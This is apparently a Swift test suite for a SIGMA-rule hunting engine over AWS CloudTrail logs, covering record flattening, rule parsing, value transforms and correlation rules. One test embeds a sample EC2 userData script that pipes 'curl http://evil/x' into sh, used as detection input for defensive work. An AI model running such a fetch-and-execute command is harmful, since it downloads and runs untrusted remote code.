import Foundation
import Testing
@testable import SigmaEngine
@testable import LogReaders

/// The hunt side of the engine: CloudTrail flattening, the CloudTrail-only rule loader, the value
/// transformations and SIGMA correlation rules (specification v2), worked out from the spec.
@Suite struct HuntEngineTests {
    static let t0 = Date(timeIntervalSince1970: 1_760_000_000)

    func event(_ json: String) throws -> Record { try CloudTrailRecord.parse(Array(json.utf8)) }

    func run(_ set: HuntRuleSet, _ events: [(String, Double, String)]) throws -> [RuleHit] {
        var m = HuntMatcher(set)
        var hits: [RuleHit] = []
        for (id, offset, json) in events {
            hits += m.feed(record: try event(json), time: Self.t0.addingTimeInterval(offset), eventID: id)
        }
        return hits + m.finish()
    }

    static let header = "logsource:\n  product: aws\n  service: cloudtrail\n"

    func base(_ name: String, _ eventName: String) -> String {
        "title: \(name)\nname: \(name)\n\(Self.header)detection:\n  sel:\n    eventName: \(eventName)\n  condition: sel\n"
    }

    @Test func flattensObjectsAndArraysBothWays() throws {
        let r = try event(#"{"eventName":"DescribeImages","userIdentity":{"arn":"arn:aws:iam::1:user/a"},"requestParameters":{"filterSet":{"items":[ {"name": "name", "valueSet":{"items":[{"value":"ubuntu*"}]}} ]},"ownersSet":{}},"readOnly":true,"errorCode":null}"#)
        #expect(r.text(["userIdentity.arn"]) == "arn:aws:iam::1:user/a")
        #expect(r.text(["requestParameters.filterSet.items"]) == #"[{"name":"name","valueSet":{"items":[{"value":"ubuntu*"}]}}]"#)
        #expect(r.text(["requestParameters.filterSet.items.0.name"]) == "name")
        #expect(r.text(["requestParameters.filterSet.items.0.valueSet.items.0.value"]) == "ubuntu*")
        #expect(r["requestParameters.ownersSet"] == nil)
        #expect(r["errorCode"] == nil)
        #expect(r.text(["readOnly"]) == "true")
        #expect(throws: LogDetectError.self) { try event("{\"a\":") }
    }

    @Test func parsesEventTime() {
        #expect(CloudTrailRecord.parseTime(Array("2025-10-09T08:53:20Z".utf8)) == Date(timeIntervalSince1970: 1_759_999_999 + 1))
        #expect(CloudTrailRecord.parseTime(Array("2025-10-09T08:53:20.5Z".utf8)) == Date(timeIntervalSince1970: 1_760_000_000.5))
        #expect(CloudTrailRecord.parseTime(Array("2025-13-09T08:53:20Z".utf8)) == nil)
        #expect(CloudTrailRecord.parseTime(Array("yesterday".utf8)) == nil)
    }

    @Test func refusesOtherLogsourcesUnknownFieldsAndKeywords() throws {
        let windows = "title: t\nlogsource:\n  product: windows\ndetection:\n  sel:\n    EventID: 1\n  condition: sel\n"
        #expect { try HuntRules.parse(yaml: windows, file: "w.yml") } throws: { "\($0)".contains("w.yml") && "\($0)".contains("product: aws, service: cloudtrail") }
        let typo = "title: t\n\(Self.header)detection:\n  sel:\n    evntName: StopLogging\n  condition: sel\n"
        #expect { try HuntRules.parse(yaml: typo, file: "typo.yml") } throws: { "\($0)".contains("'evntName'") }
        let keywords = "title: t\n\(Self.header)detection:\n  kw:\n    - StopLogging\n  condition: kw\n"
        #expect { try HuntRules.parse(yaml: keywords, file: "k.yml") } throws: { "\($0)".contains("keyword selection") }
        let modifier = "title: t\n\(Self.header)detection:\n  sel:\n    eventName|utf16le|base64: x\n  condition: sel\n"
        #expect { try HuntRules.parse(yaml: modifier, file: "m.yml") } throws: { "\($0)".contains("'|utf16le'") }
        let offset = "title: t\n\(Self.header)detection:\n  sel:\n    eventName|base64offset: x\n  condition: sel\n"
        #expect { try HuntRules.parse(yaml: offset, file: "o.yml") } throws: { "\($0)".contains("|contains") }
    }

    @Test func base64offsetMatchesTheValueAtEveryOffset() throws {
        // "GetCallerIdentity" inside three base64 texts, one per alignment.
        let set = try HuntRules.parse(yaml: "title: b\n\(Self.header)detection:\n  sel:\n    requestParameters.userData|base64offset|contains: curl http://evil\n  condition: sel\n", file: "b.yml")
        for prefix in ["", "a", "ab"] {
            let encoded = Data((prefix + "#!/bin/sh\ncurl http://evil/x | sh").utf8).base64EncodedString()
            let hits = try run(set, [("e", 0, #"{"requestParameters":{"userData":"\#(encoded)"}}"#)])
            #expect(hits.count == 1, "prefix '\(prefix)'")
        }
        let other = Data("#!/bin/sh\ncurl http://good/x".utf8).base64EncodedString()
        #expect(try run(set, [("e", 0, #"{"requestParameters":{"userData":"\#(other)"}}"#)]).isEmpty)
        #expect(ValueTransform.base64offset(Array("abc".utf8)) == ["YWJj", "FiY", "hYm"])  // as pySigma computes it
    }

    @Test func windashAndBase64() throws {
        #expect(ValueTransform.windash("cmd -enc x").contains("cmd /enc x"))
        #expect(ValueTransform.windash("a-b") == ["a-b"])
        let set = try HuntRules.parse(yaml: "title: b\n\(Self.header)detection:\n  sel:\n    requestParameters.x|base64: hello\n  condition: sel\n", file: "b.yml")
        #expect(try run(set, [("e", 0, #"{"requestParameters":{"x":"aGVsbG8="}}"#)]).count == 1)
    }

    @Test func nullMeansAbsentAndEmptyStringMeansEmpty() throws {
        // CloudTrail JSON tells "" from a missing field; SIGMA's null and '' differ (pySigma: IS NULL vs = '').
        let null = try HuntRules.parse(yaml: "title: n\n\(Self.header)detection:\n  sel:\n    errorCode: null\n  condition: sel\n", file: "n.yml")
        let empty = try HuntRules.parse(yaml: "title: e\n\(Self.header)detection:\n  sel:\n    errorCode: ''\n  condition: sel\n", file: "e.yml")
        let events = [("absent", 0.0, "{}"), ("jsonnull", 1.0, #"{"errorCode":null}"#), ("empty", 2.0, #"{"errorCode":""}"#), ("set", 3.0, #"{"errorCode":"AccessDenied"}"#)]
        #expect(try run(null, events).flatMap(\.eventIDs) == ["absent", "jsonnull"])
        #expect(try run(empty, events).flatMap(\.eventIDs) == ["empty"])
    }

    @Test func eventNamePrefilterOnlySkipsRulesThatCannotMatch() throws {
        func names(_ detection: String) throws -> Set<String>? {
            try HuntRules.parse(yaml: "title: p\n\(Self.header)detection:\n\(detection)", file: "p.yml").rules[0].eventNames
        }
        #expect(try names("  sel:\n    eventName: [StopLogging, DeleteTrail]\n  condition: sel\n") == ["stoplogging", "deletetrail"])
        #expect(try names("  a:\n    eventName: A\n  b:\n    eventName: B\n  condition: 1 of them\n") == ["a", "b"])
        #expect(try names("  a:\n    eventName: A\n  f:\n    errorCode|exists: true\n  condition: a and not f\n") == ["a"])
        #expect(try names("  a:\n    eventName: 'Delete*'\n  condition: a\n") == nil)
        #expect(try names("  a:\n    eventName|startswith: Delete\n  condition: a\n") == nil)
        #expect(try names("  a:\n    eventName: A\n  b:\n    errorCode: AccessDenied\n  condition: a or b\n") == nil)
        #expect(try names("  a:\n    - eventName: A\n    - errorCode: x\n  condition: a\n") == nil)
        // Case-insensitive like the match itself.
        let set = try HuntRules.parse(yaml: base("s", "StopLogging"), file: "s.yml")
        #expect(try run(set, [("e", 0, #"{"eventName":"stoplogging"}"#)]).count == 1)
    }

    @Test func singleRuleHitsCarryTheEvent() throws {
        let set = try HuntRules.parse(yaml: base("stop", "StopLogging"), file: "s.yml")
        let hits = try run(set, [("e1", 0, #"{"eventName":"StopLogging"}"#), ("e2", 1, #"{"eventName":"StartLogging"}"#)])
        #expect(hits.map(\.eventIDs) == [["e1"]])
        #expect(hits.first?.kind == .event)
        #expect(hits.first?.title == "stop")
    }

    @Test func eventCountSlidesAndFiresOncePerBurst() throws {
        let yaml = base("fail", "ConsoleLogin") + """
        ---
        title: many
        id: many-id
        level: high
        correlation:
          type: event_count
          rules: [fail]
          group-by: [sourceIPAddress]
          timespan: 10m
          condition:
            gte: 3
        """
        let set = try HuntRules.parse(yaml: yaml, file: "c.yml")
        func ev(_ ip: String) -> String { #"{"eventName":"ConsoleLogin","sourceIPAddress":"\#(ip)"}"# }
        // 0, 8, 12 min: the first window [0,10] has two; 8 and 12 and 14 are within 10 minutes.
        let hits = try run(set, [("a", 0, ev("1.1.1.1")), ("b", 480, ev("1.1.1.1")), ("x", 500, ev("2.2.2.2")),
                                 ("c", 720, ev("1.1.1.1")), ("d", 840, ev("1.1.1.1"))])
        #expect(hits.count == 1)
        #expect(hits.first?.eventIDs == ["a", "b", "c"].filter { _ in false } + ["b", "c", "d"])
        #expect(hits.first?.groupBy == ["sourceIPAddress": "1.1.1.1"])
        #expect(hits.first?.level == "high")
        #expect(hits.first?.count == 3)
        // The base rule is referred to without generate: no hits of its own.
        #expect(!hits.contains { $0.kind == .event })
    }

    @Test func upperBoundsAreJudgedWhenTheWindowCloses() throws {
        let yaml = base("fail", "ConsoleLogin") + "---\ntitle: few\ncorrelation:\n  type: event_count\n  rules: fail\n  group-by: [sourceIPAddress]\n  timespan: 1h\n  condition:\n    lt: 2\n"
        let set = try HuntRules.parse(yaml: yaml, file: "c.yml")
        func ev(_ ip: String) -> String { #"{"eventName":"ConsoleLogin","sourceIPAddress":"\#(ip)"}"# }
        let hits = try run(set, [("a", 0, ev("1.1.1.1")), ("b", 60, ev("1.1.1.1")), ("c", 100, ev("2.2.2.2")), ("d", 7200, ev("1.1.1.1"))])
        #expect(Set(hits.map(\.eventIDs)) == [["c"], ["d"]])
    }

    @Test func valueCountCountsDistinctValues() throws {
        let yaml = base("api", "'*'") + "---\ntitle: spread\ngenerate: true\ncorrelation:\n  type: value_count\n  rules: [api]\n  group-by: [userIdentity.accessKeyId]\n  timespan: 1h\n  condition:\n    field: eventName\n    gte: 3\n"
        let set = try HuntRules.parse(yaml: yaml, file: "v.yml")
        func ev(_ name: String, _ key: String = "AKIAEXAMPLE") -> String { #"{"eventName":"\#(name)","userIdentity":{"accessKeyId":"\#(key)"}}"# }
        let hits = try run(set, [("a", 0, ev("ListUsers")), ("b", 10, ev("ListUsers")), ("c", 20, ev("ListRoles")),
                                 ("o", 25, ev("ListBuckets", "AKIAOTHER")), ("d", 30, ev("ListBuckets"))])
        let correlation = hits.filter { $0.kind == .valueCount }
        #expect(correlation.count == 1)
        #expect(correlation.first?.values == ["ListBuckets", "ListRoles", "ListUsers"])
        #expect(correlation.first?.eventIDs == ["a", "b", "c", "d"])
        // generate: true keeps the base rule's own hits.
        #expect(hits.filter { $0.kind == .event }.count == 5)
    }

    @Test func temporalNeedsEveryRuleForTheSameGroupInTheWindow() throws {
        let yaml = base("a", "GetCallerIdentity") + "---\n" + base("b", "CreateUser") + "---\ntitle: both\ncorrelation:\n  type: temporal\n  rules: [a, b]\n  group-by: [userIdentity.arn]\n  timespan: 5m\n"
        let set = try HuntRules.parse(yaml: yaml, file: "t.yml")
        func ev(_ name: String, _ arn: String) -> String { #"{"eventName":"\#(name)","userIdentity":{"arn":"\#(arn)"}}"# }
        // Unordered: b before a still counts; another identity or a later event does not.
        let hits = try run(set, [("1", 0, ev("CreateUser", "u1")), ("2", 10, ev("GetCallerIdentity", "u2")),
                                 ("3", 60, ev("GetCallerIdentity", "u1")), ("4", 1000, ev("CreateUser", "u2"))])
        #expect(hits.map(\.eventIDs) == [["1", "3"]])
        #expect(hits.first?.groupBy == ["userIdentity.arn": "u1"])
    }

    @Test func temporalOrderedNeedsTheListedOrder() throws {
        let yaml = base("a", "DescribeImages") + "---\n" + base("b", "RunInstances") + "---\ntitle: seq\ncorrelation:\n  type: temporal_ordered\n  rules: [a, b]\n  group-by: [userIdentity.arn]\n  timespan: 1h\n"
        let set = try HuntRules.parse(yaml: yaml, file: "t.yml")
        func ev(_ name: String) -> String { #"{"eventName":"\#(name)","userIdentity":{"arn":"u"}}"# }
        #expect(try run(set, [("1", 0, ev("RunInstances")), ("2", 10, ev("DescribeImages"))]).isEmpty)
        #expect(try run(set, [("1", 0, ev("DescribeImages")), ("2", 10, ev("RunInstances"))]).map(\.eventIDs) == [["1", "2"]])
        #expect(try run(set, [("1", 0, ev("DescribeImages")), ("2", 4000, ev("RunInstances"))]).isEmpty)
    }

    @Test func aliasesAndChainedCorrelations() throws {
        let yaml = base("fail", "ConsoleLogin") + "---\n" + base("ok", "CreateAccessKey") + """
        ---
        title: many failures
        name: many_fail
        correlation:
          type: event_count
          rules: [fail]
          group-by: [actor]
          timespan: 10m
          condition: {gte: 2}
          aliases:
            actor:
              fail: userIdentity.userName
        ---
        title: failures then key
        level: critical
        correlation:
          type: temporal_ordered
          rules: [many_fail, ok]
          group-by: [actor]
          timespan: 30m
          aliases:
            actor:
              ok: requestParameters.userName
        """
        let set = try HuntRules.parse(yaml: yaml, file: "chain.yml")
        let hits = try run(set, [
            ("1", 0, #"{"eventName":"ConsoleLogin","userIdentity":{"userName":"bob"}}"#),
            ("2", 30, #"{"eventName":"ConsoleLogin","userIdentity":{"userName":"bob"}}"#),
            ("3", 60, #"{"eventName":"CreateAccessKey","requestParameters":{"userName":"alice"}}"#),
            ("4", 90, #"{"eventName":"CreateAccessKey","requestParameters":{"userName":"bob"}}"#),
        ])
        #expect(hits.map(\.title) == ["failures then key"])
        #expect(hits.first?.eventIDs == ["1", "2", "4"])
        #expect(hits.first?.groupBy == ["actor": "bob"])
    }

    @Test func stateExpiresWithTime() throws {
        let yaml = base("fail", "ConsoleLogin") + "---\ntitle: many\ncorrelation:\n  type: event_count\n  rules: [fail]\n  group-by: [sourceIPAddress]\n  timespan: 1m\n  condition: {gte: 1000}\n"
        var m = HuntMatcher(try HuntRules.parse(yaml: yaml, file: "c.yml"))
        for i in 0..<20_000 {
            _ = m.feed(record: try event(#"{"eventName":"ConsoleLogin","sourceIPAddress":"10.0.\#(i / 256).\#(i % 256)"}"#),
                       time: Self.t0.addingTimeInterval(Double(i)), eventID: "\(i)")
        }
        // One group per address, each expired a minute after its event: far fewer than 20,000 remain.
        #expect(m.openGroups < HuntMatcher.sweepInterval + 61)
    }

    @Test func busyGroupsKeepIdsButNotEveryRecord() throws {
        let yaml = base("fail", "ConsoleLogin") + "---\ntitle: many\ncorrelation:\n  type: event_count\n  rules: [fail]\n  group-by: [sourceIPAddress]\n  timespan: 1h\n  condition: {gte: 500}\n"
        let set = try HuntRules.parse(yaml: yaml, file: "c.yml")
        let events = (0..<500).map { ("e\($0)", Double($0), #"{"eventName":"ConsoleLogin","sourceIPAddress":"1.1.1.1","requestParameters":{"a":"1","b":"2","c":"3","d":"4","e":"5","f":"6","g":"7","h":"8","i":"9","j":"10","k":"11","l":"12","m":"13"}}"#) }
        let hits = try run(set, events)
        #expect(hits.count == 1)
        #expect(hits.first?.events.count == 500)
        #expect(hits.first?.events.filter { $0.record["eventName"] != nil }.count == 500)
        #expect(hits.first?.events.filter { $0.record.fields.count > HuntMatcher.summaryFields.count }.count == HuntMatcher.recordsKeptPerGroup)
    }

    @Test func expiredValuesStopCounting() throws {
        let yaml = base("api", "'*'") + "---\ntitle: spread\ncorrelation:\n  type: value_count\n  rules: [api]\n  group-by: [userIdentity.accessKeyId]\n  timespan: 1m\n  condition:\n    field: sourceIPAddress\n    gte: 3\n"
        let set = try HuntRules.parse(yaml: yaml, file: "v.yml")
        func ev(_ ip: String) -> String { #"{"eventName":"GetUser","sourceIPAddress":"\#(ip)","userIdentity":{"accessKeyId":"AKIAX"}}"# }
        #expect(try run(set, [("a", 0, ev("1.1.1.1")), ("b", 10, ev("2.2.2.2")), ("c", 70, ev("3.3.3.3"))]).isEmpty)
        #expect(try run(set, [("a", 0, ev("1.1.1.1")), ("b", 10, ev("2.2.2.2")), ("a2", 30, ev("1.1.1.1")), ("c", 65, ev("3.3.3.3"))]).map(\.eventIDs) == [["b", "a2", "c"]])
        // A busy key: 20,000 events in one window are counted incrementally, not rescanned per event.
        var m = HuntMatcher(set)
        for i in 0..<20_000 {
            _ = m.feed(record: try event(ev("10.0.0.1")), time: Self.t0.addingTimeInterval(Double(i) / 1000), eventID: "\(i)")
        }
        #expect(m.openGroups == 1)
    }

    @Test func loadingNamesBadPaths() throws {
        #expect { try HuntRules.load(paths: ["/nonexistent/rules"]) } throws: { "\($0)".contains("/nonexistent/rules") }
        let empty = FileManager.default.temporaryDirectory.appendingPathComponent("mamori-hunt-empty-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: empty, withIntermediateDirectories: true)
        #expect { try HuntRules.load(paths: [empty.path]) } throws: { "\($0)".contains("no .yml or .yaml rule") }
        let binary = try writeTemp([0xFF, 0xFE, 0x00, 0x01], name: "bad.yml")
        #expect { try HuntRules.load(paths: [binary]) } throws: { "\($0)".contains("bad.yml") }
        let deep = try writeTemp(String(repeating: "[", count: 5000), name: "deep.yml")
        #expect { try HuntRules.load(paths: [deep]) } throws: { "\($0)".contains("deep.yml") }
        let dir = try writeTemp(base("stop", "StopLogging"), name: "stop.yml")
        #expect(try HuntRules.load(paths: [URL(fileURLWithPath: dir).deletingLastPathComponent().path]).rules.count == 1)
    }

    @Test func badCorrelationsAreNamed() throws {
        let b = base("fail", "ConsoleLogin") + "---\n"
        let cases: [(String, String)] = [
            ("title: x\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 1m\n  condition: {gte: 1}\n", "'nope'"),
            ("title: x\ncorrelation:\n  type: sliding\n  rules: [fail]\n  timespan: 1m\n", "'sliding'"),
            ("title: x\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 1 hour\n  condition: {gte: 1}\n", "'1 hour'"),
            ("title: x\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 99999999999999w\n  condition: {gte: 1}\n", "at most a year"),
            ("title: x\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 1m\n", "needs a condition"),
            ("title: x\ncorrelation:\n  type: value_count\n  rules: [fail]\n  timespan: 1m\n  condition: {gte: 2}\n", "condition.field"),
            ("title: x\ncorrelation:\n  type: event_count\n  rules: [fail]\n  group-by: [hostname]\n  timespan: 1m\n  condition: {gte: 2}\n", "'hostname'"),
            ("title: x\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 1m\n  condition: {above: 2}\n", "'above'"),
            ("title: x\ncorrelation:\n  type: temporal\n  rules: [fail]\n  timespan: 1m\n", "two different rules"),
        ]
        for (text, needle) in cases {
            #expect { try HuntRules.parse(yaml: b + text, file: "bad.yml") } throws: { "\($0)".contains(needle) && "\($0)".contains("bad.yml") }
        }
        let cycle = "title: x\nname: x\ncorrelation:\n  type: temporal\n  rules: [x, y]\n  timespan: 1m\n---\ntitle: y\nname: y\ncorrelation:\n  type: temporal\n  rules: [x, fail]\n  timespan: 1m\n"
        #expect { try HuntRules.parse(yaml: b + cycle, file: "cycle.yml") } throws: { "\($0)".contains("cycle") }
    }
}
